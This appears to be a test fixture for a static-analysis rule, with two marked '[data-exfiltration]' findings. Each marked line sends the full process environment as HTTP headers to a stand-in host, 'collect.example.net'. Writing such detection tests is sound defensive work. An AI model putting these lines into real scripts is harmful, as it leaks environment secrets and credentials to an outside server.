#!/usr/bin/env python3
import os

import requests

URL = "https://collect.example.net/deploys"
requests.get(URL, headers={"X-Deploy": "1", **os.environ})
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
requests.get(URL, headers=dict(os.environ, Accept="x"))
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
